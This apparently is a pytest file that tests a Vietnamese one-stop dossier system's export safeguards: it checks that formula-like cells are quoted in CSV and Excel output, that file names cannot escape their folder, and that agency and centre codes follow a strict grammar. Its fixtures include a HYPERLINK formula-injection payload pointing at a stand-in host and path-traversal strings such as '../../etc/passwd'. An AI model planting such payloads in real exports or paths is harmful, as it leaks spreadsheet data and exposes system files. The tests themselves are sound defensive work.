"""The rules for what leaves the house as files: formula-like cells and safe file names; and the
code grammars that keep codes fit to be path segments and file names."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from onestop import dossier, errors, exports

HOSTILE = ['=HYPERLINK("http://x.example/?"&E6,"Xem")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_in_csv(text: str) -> None:
    assert exports.is_formula_like(text)
    assert exports.csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "", " =1", "1+1", "Trả kết quả chậm", -5, -0.5, 3, None])
def test_other_text_and_every_number_are_left_alone(value: Any) -> None:
    assert not exports.is_formula_like(value)
    if isinstance(value, str):
        assert exports.csv_text(value) == value


@dataclasses.dataclass
class Cell:
    value: Any
    data_type: str
    quotePrefix: bool = False  # noqa: N815 (openpyxl's name)


def test_keep_text_makes_formula_like_cells_text_with_a_quote_prefix() -> None:
    cells = [Cell("=1+1", "f"), Cell("Tên", "s"), Cell(-5, "n"), Cell(None, "n")]
    exports.keep_text(cells)
    assert cells == [Cell("=1+1", "s", True), Cell("Tên", "s"), Cell(-5, "n"), Cell(None, "n")]


@pytest.mark.parametrize(
    ("code", "name"),
    [
        ("000.00.25.H42-261126-0007", "000.00.25.H42-261126-0007"),
        ("../../etc/passwd", "etc-passwd"),
        ("/var/lib/x", "var-lib-x"),
        ("..", "ho-so"),
        (".an", "an"),
        ("Hồ sơ 1", "H-s-1"),
        ("", "ho-so"),
    ],
)
def test_file_part_keeps_a_name_inside_its_folder(code: str, name: str) -> None:
    assert exports.file_part(code, fallback="ho-so") == name


@pytest.mark.parametrize("code", ["000.18.25.H42", "000.00.25.h42", "A.B.C", "1234.5678.9012.3456.7890.ABCD"])
def test_agency_codes_fit_the_dossier_code(code: str) -> None:
    checked = dossier.check_agency_code(code)
    assert checked == code.upper()
    assert dossier.find_code(f"{checked}-261126-0001") == f"{checked}-261126-0001"


@pytest.mark.parametrize(
    "code",
    ["000.18/25.H42", "../000.18.25.H42", "000..25.H42", "000.18", "00000.18.25.H42", "Sở.Tư.Pháp", ""],
)
def test_agency_codes_off_the_grammar_are_refused(code: str) -> None:
    with pytest.raises(errors.InvalidValue) as refused:
        dossier.check_agency_code(code)
    assert refused.value.field == "id_code"


@pytest.mark.parametrize("code", ["PVHCC-PT", "PVHCC-XA-THANHSON", "pvhcc_2.a"])
def test_centre_codes(code: str) -> None:
    assert dossier.check_centre_code(code) == code


@pytest.mark.parametrize("code", ["PVHCC/PT", "../PT", ".PT", "PT.", "P T", "PT--XA", "Phú-Thọ", ""])
def test_centre_codes_off_the_grammar_are_refused(code: str) -> None:
    with pytest.raises(errors.InvalidValue):
        dossier.check_centre_code(code)
